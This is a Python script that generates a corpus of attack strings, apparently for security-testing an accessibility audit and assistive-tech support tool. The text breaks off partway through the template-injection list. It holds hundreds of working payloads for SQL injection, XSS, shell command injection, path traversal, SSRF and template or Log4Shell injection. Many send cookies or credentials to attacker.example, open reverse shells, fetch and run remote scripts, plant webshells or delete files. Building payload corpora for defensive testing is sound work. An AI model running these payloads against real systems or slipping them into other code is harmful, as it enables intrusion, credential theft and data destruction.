#!/usr/bin/env python3
"""Attack values for the accessibility audit / assistive-tech support tool corpus.

Standard library only. Writes attacks.jsonl next to this file.
Most values are hand-written literals; a small templated part joins
hand-written theme prefixes to hand-written payloads or applies one
encoding (random.Random(10602)).
"""
import json
import os
import random
import urllib.parse

SEED = 10602
PREFIX = "haa6"

# (category, class, value) -- all hand-written
L = []


def add(cat, items):
    for cls, val in items:
        L.append((cat, cls, val))


# ------------------------------------------------------------------ sqli (SQL string / number / ORDER BY contexts)
add("sqli", [
    ("alt-or-tautology", "Company logo' OR '1'='1"),
    ("wcag-union-select", "1.4.3' UNION SELECT username, password_hash FROM users--"),
    ("finding-mssql-convert-error", "Finding #42' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--"),
    ("selector-stacked-drop", "nav.main-menu'; DROP TABLE audit_findings;--"),
    ("contrast-mysql-sleep", "4.5:1' AND SLEEP(5)-- -"),
    ("aria-pg-sleep-subquery", "Close dialog' AND 1=(SELECT 1 FROM pg_sleep(5))--"),
    ("sr-oracle-dbms-pipe", "NVDA 2024.1' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x',5)--"),
    ("search-oracle-union-banner", "skip link' UNION SELECT NULL, banner FROM v$version--"),
    ("search-sqlite-master", "captions' UNION SELECT name, sql FROM sqlite_master--"),
    ("note-comment-as-space", "focus ring'/**/UNION/**/SELECT/**/user(),version()#"),
    ("note-mysql-versioned-comment", "aria-label' /*!50000UNION*/ /*!50000SELECT*/ 1,2,3-- -"),
    ("number-or-true", "12 OR 1=1"),
    ("number-union-version", "3 UNION SELECT 1,@@version,3"),
    ("wcag-order-by-probe", "1.1.1' ORDER BY 5-- -"),
    ("plain-boolean-substring", "' AND SUBSTRING((SELECT password FROM users WHERE id=1),1,1)='a'--"),
    ("ticket-mssql-waitfor", "Ticket 4471'; WAITFOR DELAY '0:0:5'--"),
    ("ticket-mssql-xp-cmdshell", "JAWS 2024'; EXEC master..xp_cmdshell 'whoami'--"),
    ("note-mysql-into-outfile", "alt text' UNION SELECT '<?php system($_GET[c]); ?>',2 INTO OUTFILE '/var/www/html/s.php'-- -"),
    ("note-mysql-load-file", "transcript' UNION SELECT LOAD_FILE('/etc/passwd'),2-- -"),
    ("finding-mysql-extractvalue", "2.4.7' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version()),0x7e))-- -"),
    ("finding-mysql-updatexml", "Focus Visible' AND UPDATEXML(1,CONCAT(0x7e,user()),1)-- -"),
    ("finding-pg-cast-error", "button.close-x' AND 1=CAST((SELECT current_user) AS int)--"),
    ("search-hex-literal", "VoiceOver' UNION SELECT 0x61646d696e,2-- -"),
    ("login-char-function", "' OR username=CHAR(97,100,109,105,110)-- -"),
    ("alt-double-quote-tautology", "Skip link\" OR \"1\"=\"1"),
    ("note-paren-tautology", "heading level 2') OR ('a'='a"),
    ("search-case-mixing", "contrast' uNiOn SeLeCt password, email FrOm users--"),
    ("login-hash-comment", "admin'#"),
    ("login-double-dash", "admin'--"),
    ("login-or-limit", "' OR 1=1 LIMIT 1 OFFSET 0-- -"),
    ("finding-mysql-benchmark", "1.4.11' AND BENCHMARK(5000000,MD5('x'))-- -"),
    ("plain-like-tautology", "' OR 'x' LIKE 'x"),
    ("note-pg-copy-program", "Retest'; COPY (SELECT '') TO PROGRAM 'id'--"),
    ("note-pg-read-file", "captions_en.vtt' UNION SELECT pg_read_file('/etc/passwd'),NULL--"),
    ("search-information-schema", "role=dialog' UNION SELECT table_name,column_name FROM information_schema.columns-- -"),
    ("note-mssql-xp-dirtree", "TalkBack'; EXEC master..xp_dirtree '\\\\attacker.example\\share'--"),
    ("note-oracle-utl-http", "Narrator' || UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) || '"),
    ("note-sqlite-randomblob", "Orca' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))--"),
    ("insert-subselect", "Great alt text', (SELECT password FROM users LIMIT 1))-- -"),
    ("sort-case-when", "(CASE WHEN (SELECT SUBSTR(password,1,1) FROM users LIMIT 1)='a' THEN severity ELSE wcag_level END)"),
    ("sort-mysql-sleep", "wcag_level,(SELECT SLEEP(5))"),
    ("finding-mysql-if-sleep", "2.1.1' AND IF(1=1,SLEEP(5),0)-- -"),
    ("plain-or-semicolon", "' OR 1=1;--"),
    ("number-and-false-union", "5 AND 1=2 UNION SELECT 1,2,3"),
    ("note-mssql-shutdown", "Keyboard trap'; SHUTDOWN--"),
    ("plain-having", "' HAVING 1=1--"),
    ("plain-group-by-having", "' GROUP BY users.id HAVING 1=1--"),
    ("note-oracle-concat-subquery", "Alt: chart'||(SELECT password FROM users WHERE rownum=1)||'"),
    ("note-oracle-ascii-substr", "WCAG 2.2' AND ASCII(SUBSTR((SELECT user FROM dual),1,1))>64--"),
    ("finding-mysql-floor-rand", "1.3.1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- -"),
    ("search-union-null-probe", "skip to content' UNION ALL SELECT NULL,NULL,NULL-- -"),
    ("note-newline-as-space", "aria-live'\nUNION\nSELECT\nusername,password\nFROM\nusers--"),
    ("note-tab-as-space", "polite'\tOR\t1=1--"),
    ("number-pg-stacked", "1;SELECT pg_sleep(5)"),
    ("search-group-concat", "-1' UNION SELECT 1,group_concat(email,0x3a,password) FROM users-- -"),
    ("login-exists-like", "' OR EXISTS(SELECT * FROM users WHERE username='admin' AND password LIKE 'a%')--"),
    ("note-stacked-update", "Support request'; UPDATE users SET role='admin' WHERE email='me@attacker.example'--"),
    ("note-stacked-insert", "Feedback'; INSERT INTO users(email,role) VALUES('x@attacker.example','admin')--"),
    ("note-mssql-plus-concat", "JAWS reads ' + (SELECT TOP 1 password FROM users) + '"),
    ("number-and-subselect", "7 AND (SELECT COUNT(*) FROM users)>0"),
    ("plain-open-comment", "' OR '1'='1' /*"),
    ("plain-or-digit", "' OR 1 -- -"),
    ("fullwidth-quote", "Close＇ OR 1=1--"),
    ("percent-u-quote", "Close%u0027 OR 1=1--"),
    ("urlencode-union", "%27%20UNION%20SELECT%20NULL%2Cversion()--%20"),
    ("double-urlencode-tautology", "%2527%2520OR%25201%253D1--"),
    ("note-mysql-backtick-identifiers", "heading' UNION SELECT `password`,`email` FROM `users`-- -"),
    ("note-pg-dollar-quote", "landmark' UNION SELECT $$x$$, current_setting($$data_directory$$)--"),
    ("note-mssql-openrowset-bulk", "VoiceOver'; SELECT * FROM OPENROWSET(BULK 'C:\\Windows\\win.ini', SINGLE_CLOB) AS x--"),
    ("note-mysql-sys-schema", "focus' UNION SELECT table_name,2 FROM sys.schema_table_statistics-- -"),
    ("number-boolean-ascii", "4 AND ASCII(SUBSTRING(DATABASE(),1,1))=97"),
    ("limit-procedure-analyse", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)"),
])

# ------------------------------------------------------------------ xss (unescaped HTML / attribute / JS / URL contexts)
add("xss", [
    ("plain-script-tag", "<script>alert(document.domain)</script>"),
    ("alt-img-onerror", "Logo of ACME<img src=x onerror=alert(1)>"),
    ("plain-svg-onload", "<svg onload=alert(1)>"),
    ("alt-attribute-breakout-autofocus", "Bar chart\" onfocus=\"alert(1)\" autofocus tabindex=\"0"),
    ("aria-label-breakout-script-src", "Close dialog\"><script src=https://attacker.example/a.js></script>"),
    ("skip-link-javascript-href", "<a href=\"javascript:alert(document.cookie)\">Skip to content</a>"),
    ("note-iframe-javascript", "See preview: <iframe src=\"javascript:alert(1)\"></iframe>"),
    ("note-details-ontoggle", "<details open ontoggle=alert(1)><summary>Keyboard shortcuts</summary></details>"),
    ("note-mxss-math-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("entities-in-handler", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    ("entity-tab-in-scheme", "<a href=\"jav&#x09;ascript:alert(1)\">Read transcript</a>"),
    ("entity-encoded-scheme", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">WCAG 1.4.3</a>"),
    ("urlencode-script", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("double-urlencode-svg", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("js-unicode-escape-in-string", "\\u003cimg src=x onerror=alert(1)\\u003e"),
    ("case-mixing-script", "Caption: <ScRiPt>alert(1)</sCrIpT>"),
    ("svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>"),
    ("input-autofocus-onfocus", "<input autofocus onfocus=alert(1) aria-label=\"Search\">"),
    ("video-source-onerror", "<video><source onerror=alert(1)></video>"),
    ("object-data-base64", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),
    ("title-breakout", "Audit report</title><script>alert(1)</script>"),
    ("textarea-breakout", "My feedback</textarea><svg onload=alert(1)>"),
    ("js-string-fromcharcode", "';alert(String.fromCharCode(88,83,83))//"),
    ("script-block-breakout", "</script><script>alert(1)</script>"),
    ("aria-snippet-onclick-cookie", "<div role=\"button\" tabindex=\"0\" onclick=\"fetch('https://attacker.example/?c='+document.cookie)\">Close</div>"),
    ("aria-snippet-onmouseover", "<button aria-label=\"Close\" onmouseover=alert(1)>X</button>"),
    ("alt-snippet-dynamic-import", "<img alt=\"chart\" src=x onerror=\"import('//attacker.example/x.js')\">"),
    ("svg-slash-separator", "<svg/onload=alert(1)>"),
    ("img-eval-atob", "<img src=x:x onerror=eval(atob('YWxlcnQoMSk='))>"),
    ("meta-refresh-redirect", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
    ("form-phishing", "Your session expired.<form action=\"https://attacker.example/collect\"><input name=password type=password aria-label=\"Password\"><button>Sign in</button></form>"),
    ("base-href-hijack", "<base href=\"https://attacker.example/\">"),
    ("angularjs-csti", "{{constructor.constructor('alert(1)')()}}"),
    ("backtick-call", "<img src=x onerror=alert`1`>"),
    ("svg-script-entities", "<svg><script>alert&#40;1&#41;</script></svg>"),
    ("leading-space-scheme", "<a href=\"  javascript:alert(1)\">Help</a>"),
    ("custom-element-pointer", "<x-tooltip onpointerenter=alert(1)>hover me</x-tooltip>"),
    ("fullwidth-brackets", "＜script＞alert(1)＜/script＞"),
    ("percent-u-fullwidth", "%uff1cscript%uff1ealert(1)%uff1c/script%uff1e"),
    ("iframe-srcdoc-entities", "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>"),
    ("url-field-javascript", "javascript:alert(document.domain)"),
    ("url-field-data-html", "data:text/html,<script>alert(1)</script>"),
    ("svg-xlink-href", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">Skip</text></a></svg>"),
    ("unclosed-img-tag", "<img src=x onerror=alert(1)//"),
    ("quote-confusion", "<img \"\"\"><script>alert(1)</script>\">"),
    ("noscript-mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("img-cookie-exfil", "<img src=x onerror=this.src='//attacker.example/?'+document.cookie>"),
    ("svg-localstorage-exfil", "<svg onload=location='//attacker.example/?'+localStorage.token>"),
    ("script-image-beacon", "<script>new Image().src='https://attacker.example/c?'+document.cookie</script>"),
    ("js-dq-string-minus", "\"-alert(1)-\""),
    ("js-escaped-quote-breakout", "\\\";alert(1);//"),
    ("js-unicode-identifier", "<img src=1 onerror=\\u0061lert(1)>"),
    ("entity-newline-in-scheme", "<a href=\"java&#10;script:alert(1)\">Captions</a>"),
    ("slash-attr-separator", "<img/src/onerror=alert(1)>"),
    ("body-onpageshow", "<body onpageshow=alert(1)>"),
    ("select-autofocus", "<select autofocus onfocus=alert(1)><option>Order by name</option></select>"),
    ("textarea-autofocus", "<textarea autofocus onfocus=alert(1)>notes</textarea>"),
    ("case-mixing-svg", "<sVg OnLoAd=alert(1)>"),
    ("link-onclick", "<a href=\"#\" onclick=\"alert(1)\">Read more</a>"),
    ("keyframes-onanimationstart", "<style>@keyframes x{}</style><span role=\"status\" style=\"animation-name:x\" onanimationstart=alert(1)></span>"),
    ("string-concat-window", "<img src=x onerror=window['al'+'ert'](1)>"),
    ("settimeout-string", "<svg onload=setTimeout('al'+'ert(1)')>"),
    ("script-data-src", "<script src=data:,alert(1)></script>"),
    ("regex-source-concat", "<img src=x onerror=top[/al/.source+/ert/.source](1)>"),
    ("focusin-tabindex", "<span id=x tabindex=1 onfocusin=alert(1)>Jump to findings</span>"),
    ("iframe-external", "<iframe src=\"https://attacker.example/frame.html\" title=\"Map\" width=\"0\" height=\"0\"></iframe>"),
    ("embed-javascript", "<embed src=\"javascript:alert(1)\">"),
    ("dom-clobber-form", "<form id=config><input name=apiBase value=\"https://attacker.example/\"></form>"),
    ("svg-foreignobject", "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>"),
])

# ------------------------------------------------------------------ cmdi (shell line / argv / Windows / PowerShell)
add("cmdi", [
    ("filename-semicolon-cat", "report.pdf; cat /etc/passwd"),
    ("url-and-curl-pipe-sh", "https://example.org/page && curl https://attacker.example/x.sh | sh"),
    ("plain-pipe-id", "| id"),
    ("caption-file-subshell", "captions_$(whoami).vtt"),
    ("caption-file-backticks", "intro_`id`.srt"),
    ("audit-csv-or-wget", "audit.csv || wget -qO- http://attacker.example/p | bash"),
    ("url-nc-reverse", "https://example.org/; nc 203.0.113.5 4444 -e /bin/sh"),
    ("plain-bash-devtcp", "; bash -i >& /dev/tcp/203.0.113.7/443 0>&1"),
    ("filename-newline-urlencode", "a11y-report.html%0Aid"),
    ("filename-literal-newline", "captions.vtt\nwhoami"),
    ("ifs-space", "transcript.txt;cat${IFS}/etc/passwd"),
    ("brace-expansion", "screenshot.png;{cat,/etc/passwd}"),
    ("quote-splitting", "contrast.json;c''at /e't'c/pa''sswd"),
    ("glob-wildcards", "video.mp4;/???/c?t /???/p?ss??"),
    ("base64-pipe-sh", "alt.txt; echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh"),
    ("windows-ampersand-type", "findings.xlsx & type C:\\Windows\\win.ini"),
    ("powershell-iwr-iex", "audit.html | powershell -nop -c \"iwr http://attacker.example/a.ps1 | iex\""),
    ("powershell-encodedcommand", "report.docx & powershell -NoP -W Hidden -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBhAHQAdABhAGMAawBlAHIALgBlAHgAYQBtAHAAbABlAC8AYQAuAHAAcwAxACAALQBVAHMAZQBCAGEAcwBpAGMAUABhAHIAcwBpAG4AZwApAA=="),
    ("windows-ampersand-urlencode", "notes.txt%26whoami"),
    ("windows-certutil-download", "page.html & certutil -urlcache -split -f http://attacker.example/x.exe %TEMP%\\x.exe & %TEMP%\\x.exe"),
    ("windows-cmd-dir", "captions.srt | cmd /c dir C:\\Users"),
    ("argv-curl-output", "-o /var/www/html/shell.php https://attacker.example/shell.txt"),
    ("argv-wget-post-file", "--post-file=/etc/passwd http://attacker.example/collect"),
    ("argv-git-upload-pack", "--upload-pack=touch /tmp/pwned"),
    ("argv-tar-checkpoint", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh"),
    ("argv-find-exec", "captions -exec sh -c id ;"),
    ("argv-ssh-proxycommand", "-oProxyCommand=sh -c 'curl attacker.example|sh'"),
    ("argv-rsync-e", "-e 'sh -c id' backup:/data ."),
    ("argv-zip-tt", "report.zip -T -TT 'sh -c id;'"),
    ("argv-sendmail-x", "a11y@example.org -OQueueDirectory=/tmp -X/var/www/html/log.php"),
    ("subshell-curl", "$(curl -s attacker.example/x|sh)"),
    ("plain-sleep", ";sleep 10;"),
    ("ping-delay", "nvda-log.txt | ping -c 10 127.0.0.1"),
    ("windows-ping-delay", "jaws.log & ping -n 10 127.0.0.1 &"),
    ("dns-exfil-nslookup", "audit.pdf;nslookup $(whoami).attacker.example"),
    ("dns-exfil-dig-backticks", "`dig +short $(hostname).attacker.example`"),
    ("python-os-system", "contrast.csv;python3 -c 'import os;os.system(\"id\")'"),
    ("perl-system", "alt.csv;perl -e 'system(\"id\")'"),
    ("php-r-system", "vpat.pdf; php -r 'system(\"id\");'"),
    ("destructive-rm", "captions_old.vtt;rm -rf /var/www/uploads/*"),
    ("webshell-write", "notes.md; echo '<?php system($_GET[0]);?>' > /var/www/html/x.php"),
    ("env-dump", "transcript.txt;env"),
    ("aws-credentials", "audit.json | cat ~/.aws/credentials"),
    ("printf-hex", "video.webm;$(printf '\\x69\\x64')"),
    ("ansi-c-quoting", "slides.pdf;$'\\x63\\x61\\x74' /etc/passwd"),
    ("backslash-splitting", "file.txt; w\\h\\o\\a\\m\\i"),
    ("windows-systemroot", "report.html || type %SYSTEMROOT%\\win.ini"),
    ("windows-set", "findings.csv & set"),
    ("ifs-comma", "x.vtt;IFS=,;c=cat,/etc/passwd;$c"),
    ("powershell-semicolon-iwr", "'; Invoke-WebRequest -Uri http://attacker.example/ -Method Post -Body (Get-Content C:\\inetpub\\wwwroot\\web.config); '"),
    ("powershell-start-process", "audit; Start-Process calc.exe"),
    ("powershell-env-exfil", "'; Get-ChildItem env: | Out-File \\\\attacker.example\\s\\e.txt; '"),
    ("urlencode-newline-cat", "captions.srt%0a/bin/cat%20/etc/passwd"),
    ("double-urlencode-newline", "captions.srt%250aid"),
    ("stderr-subshell", "$(id>&2)"),
    ("awk-system", "alt.tsv;awk 'BEGIN{system(\"id\")}'"),
    ("busybox-nc", "nvda.log; busybox nc 203.0.113.9 9001 -e sh"),
    ("socat-exec", "jaws.log;socat tcp:203.0.113.9:9001 exec:sh"),
    ("windows-mshta", "audit.hta | mshta http://attacker.example/x.hta"),
    ("windows-rundll32-unc", "a.docx & rundll32 \\\\attacker.example\\share\\x.dll,Entry"),
    ("crontab-persistence", "; (crontab -l; echo '* * * * * curl attacker.example|sh') | crontab -"),
    ("plain-uname", ";uname -a"),
    ("shadow-read", "font.woff | head -c 200 /etc/shadow"),
])

# ------------------------------------------------------------------ traversal (file path / include contexts)
add("traversal", [
    ("plain-dotdot-passwd", "../../../../etc/passwd"),
    ("caption-dir-escape", "captions/../../../../etc/shadow"),
    ("windows-backslash", "..\\..\\..\\windows\\win.ini"),
    ("urlencode-dots-slashes", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("double-urlencode", "%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("overlong-utf8-slash", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("percent-u-slash", "..%u2215..%u2215..%u2215etc%u2215passwd"),
    ("strip-bypass-nested", "....//....//....//etc/passwd"),
    ("tomcat-semicolon", "..;/..;/WEB-INF/web.xml"),
    ("absolute-path", "/etc/passwd"),
    ("proc-environ", "transcripts/../../../../proc/self/environ"),
    ("urlencode-backslash-hosts", "..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts"),
    ("windows-absolute-sam", "C:\\Windows\\System32\\config\\SAM"),
    ("php-filter-base64", "php://filter/convert.base64-encode/resource=../config.php"),
    ("log-file", "../../../../var/log/nginx/access.log"),
    ("ssh-key", "transcripts/2024/../../../../../root/.ssh/id_rsa"),
    ("null-byte-extension", "..%2f..%2f..%2fetc%2fpasswd%00.vtt"),
    ("null-byte-image", "../../../etc/passwd%00.png"),
    ("fullwidth-solidus", "..／..／..／etc／passwd"),
    ("urlencoded-fullwidth-solidus", "..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd"),
    ("double-urlencode-backslash", "..%255c..%255c..%255cboot.ini"),
    ("absolute-with-dotdot", "/var/www/html/../../../etc/hosts"),
    ("redundant-slashes", "..///////..////..//etc/passwd"),
    ("dot-prefix", "./././../../../etc/group"),
    ("urlencoded-dots-env", "%2e%2e/%2e%2e/%2e%2e/home/app/.env"),
    ("overlong-backslash", "..%c1%9c..%c1%9c..%c1%9cwindows/win.ini"),
    ("rails-config", "locales/../../../../app/config/database.yml"),
    ("git-config", "../../.git/config"),
    ("iis-web-config", "..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("proc-cmdline", "/proc/self/cmdline"),
    ("php-ini", "../../../../../../usr/local/etc/php/php.ini"),
    ("windows-strip-bypass", "....\\\\....\\\\....\\\\windows\\\\win.ini"),
    ("overlong-dots", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("static-prefix-encoded", "static/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("k8s-token-encoded", "..%2F..%2F..%2F..%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken"),
    ("bash-history", "../../../../root/.bash_history"),
    ("windows-root-hosts", "\\..\\..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts"),
    ("windows-forward-slashes", "C:/inetpub/../Windows/win.ini"),
    ("uppercase-encoded-backslash", "..%5C..%5C..%5C..%5CWindows%5Cwin.ini"),
    ("encoded-mixed-web-config", "%2e%2e%5c%2e%2e%5cweb.config"),
    ("mixed-separators", "/..\\..\\..\\etc\\passwd"),
    ("locale-dir-escape", "de-DE/../../../../etc/passwd"),
    ("php-filter-rot13", "php://filter/read=string.rot13/resource=index.php"),
    ("avatar-dir-escape", "uploads/avatars/../../../../../etc/passwd"),
    ("aws-credentials", "../../../../home/ubuntu/.aws/credentials"),
])

# ------------------------------------------------------------------ ssrf (fetched URL: page to audit, image for alt text, caption URL)
add("ssrf", [
    ("aws-imds-credentials", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("loopback-admin", "http://127.0.0.1:8080/admin"),
    ("gopher-redis", "gopher://127.0.0.1:6379/_FLUSHALL%0D%0ASET%20x%20%22%3C%3Fphp%20system%28%24_GET%5Bc%5D%29%3B%3F%3E%22%0D%0A"),
    ("decimal-ip", "http://2130706433/"),
    ("hex-ip", "http://0x7f000001/"),
    ("octal-ip", "http://017700000001/"),
    ("short-ip", "http://127.1/"),
    ("ipv6-loopback", "http://[::1]:8000/"),
    ("ipv4-mapped-ipv6-imds", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("zero-ip", "http://0/"),
    ("wildcard-dns-imds", "http://169.254.169.254.nip.io/latest/meta-data/"),
    ("gcp-metadata-token", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("alibaba-metadata", "http://100.100.100.200/latest/meta-data/"),
    ("ecs-task-credentials", "http://169.254.170.2/v2/credentials"),
    ("file-scheme", "file:///etc/passwd"),
    ("dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("userinfo-confusion", "http://attacker.example@127.0.0.1/"),
    ("backslash-parser-confusion", "http://169.254.169.254\\@attacker.example/"),
    ("k8s-internal-service", "http://internal-api.default.svc.cluster.local/admin/users"),
    ("rfc1918-elasticsearch", "http://10.0.0.5:9200/_cat/indices"),
    ("rfc1918-router", "http://192.168.1.1/cgi-bin/luci"),
    ("docker-api", "http://172.17.0.1:2375/containers/json"),
    ("open-redirect-to-imds", "https://redirect.attacker.example/?to=http://169.254.169.254/latest/meta-data/"),
    ("octal-dotted-imds", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("hex-dotted-imds", "http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/"),
    ("decimal-imds", "http://2852039166/latest/meta-data/"),
    ("port-scan-ssh", "http://127.0.0.1:22/"),
    ("kibana-local", "http://localhost:5601/api/status"),
    ("ipv6-full-mapped", "http://[0:0:0:0:0:ffff:127.0.0.1]/"),
    ("enclosed-alphanumerics", "http://①②⑦.⓪.⓪.①/"),
    ("wildcard-dns-consul", "http://127.0.0.1.nip.io:8500/v1/agent/self"),
    ("gopher-smtp", "gopher://127.0.0.1:25/_HELO%20localhost%0D%0AMAIL%20FROM%3A%3Cx%40attacker.example%3E%0D%0ARCPT%20TO%3A%3Cadmin%40example.org%3E%0D%0ADATA%0D%0Ahi%0D%0A.%0D%0A"),
    ("jar-scheme", "jar:http://attacker.example/x.jar!/"),
    ("k8s-api-secrets", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    ("kubelet-pods", "https://127.0.0.1:10250/pods"),
    ("consul-kv", "http://localhost:8500/v1/kv/?recurse"),
    ("urlencoded-host", "http://%31%32%37%2e%30%2e%30%2e%31/admin"),
    ("java-netdoc", "netdoc:///etc/passwd"),
    ("gcp-metadata-short", "http://metadata/computeMetadata/v1/?recursive=true"),
    ("azure-imds", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("aws-imds-ipv6", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("localtest-me", "http://localtest.me:8080/server-status"),
    ("uppercase-localhost", "http://LOCALHOST/server-status"),
    ("minio-admin", "http://127.0.0.1:9000/minio/admin/v3/info"),
    ("zero-address-port", "http://0.0.0.0:3000/"),
    ("zero-padded-ip", "http://127.000.000.001/"),
    ("aws-imds-userdata", "http://169.254.169.254/latest/user-data"),
    ("ldap-scheme-local", "ldap://127.0.0.1:389/dc=example,dc=org??sub?(objectClass=*)"),
    ("fragment-confusion", "http://127.0.0.1:6379#@attacker.example/"),
    ("rfc1918-jenkins", "http://10.1.2.3:8080/script"),
])

# ------------------------------------------------------------------ code (SSTI, EL/OGNL/SpEL, eval, Log4Shell, proto pollution, CSV, XXE, deserialization)
add("code", [
    ("jinja2-cycler-globals", "Alt text: {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("jinja2-template-reference", "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("jinja2-subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("jinja2-lipsum-globals", "Skip link label {{ lipsum.__globals__['os'].popen('id').read() }}"),
    ("jinja2-for-warning-builtins", "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}"),
    ("jinja2-attr-hex-escape", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}"),
    ("jinja2-config-leak", "Finding title: {{ config.items() }}"),
    ("twig-filter-system", "{{ ['id']|filter('system') }}"),
    ("twig-undefined-filter-callback", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"),
    ("freemarker-assign-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("freemarker-inline-execute", "Caption: ${\"freemarker.template.utility.Execute\"?new()(\"id\")}"),
    ("velocity-runtime", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('id')"),
    ("velocity-tools-class-inspect", "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\")"),
    ("thymeleaf-preprocess", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("spel-hash-brace", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("spel-dollar-curl", "Contrast note ${T(java.lang.Runtime).getRuntime().exec(\"curl attacker.example\")}"),
    ("ognl-runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("ognl-member-access", "${(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("java-el-reflection", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("mako-python-block", "<% import os; x=os.popen('id').read() %>${x}"),
    ("mako-module-cache", "${self.module.cache.util.os.system(\"id\")}"),
    ("erb-backticks", "<%= `id` %>"),
    ("erb-system", "Transcript: <%= system('cat /etc/passwd') %>"),
    ("smarty-system", "{system('id')}"),
    ("smarty-php-tag", "{php}echo shell_exec('id');{/php}"),
    ("handlebars-constructor-chain", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return process.mainModule.require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"),
    ("pug-interpolation", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("nunjucks-range-constructor", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"),
    ("ejs-output", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
    ("dot-interpolation", "{{= global.process.mainModule.require('child_process').execSync('id') }}"),
    ("tornado-import", "{% import os %}{{ os.popen('id').read() }}"),
    ("python-format-string", "Hello {user.__init__.__globals__[CONFIG][SECRET_KEY]}"),
    ("razor-process-start", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("groovy-gstring-execute", "${\"id\".execute().text}"),
    ("pebble-forname", "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}"),
    ("jinjava-script-engine", "{{'a'.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript').eval('java.lang.Runtime.getRuntime().exec(\"id\")')}}"),
    ("slim-ruby-interp", "#{%x|id|}"),
    ("log4shell-ldap", "NVDA 2024.1 ${jndi:ldap://attacker.example/a}"),
    ("log4shell-lower-lookup", "${${lower:j}ndi:${lower:l}dap://attacker.example/x}"),
    ("log4shell-default-value", "${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.10:1099/Exploit}"),
